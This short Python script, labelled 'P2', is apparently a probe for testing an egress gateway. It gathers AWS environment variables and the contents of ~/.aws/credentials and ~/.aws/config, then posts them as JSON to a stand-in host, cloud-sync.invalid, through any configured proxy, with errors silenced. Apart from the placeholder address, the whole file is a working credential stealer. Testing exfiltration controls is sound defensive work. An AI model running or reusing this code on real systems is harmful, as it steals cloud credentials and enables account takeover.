# P2 in Python: AWS credentials from files and environment, sent as JSON through whatever HTTP
# proxy is configured (urllib honours HTTP_PROXY), to a reserved name the gateway sinks.
import json, os, urllib.request

home = os.path.expanduser("~")
loot = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
for name in (".aws/credentials", ".aws/config"):
    try:
        loot[name] = open(os.path.join(home, name)).read()
    except OSError:
        pass
req = urllib.request.Request("http://cloud-sync.invalid/upload", data=json.dumps(loot).encode(), headers={"Content-Type": "application/json"})
try:
    urllib.request.urlopen(req, timeout=3).read()
except Exception:
    pass
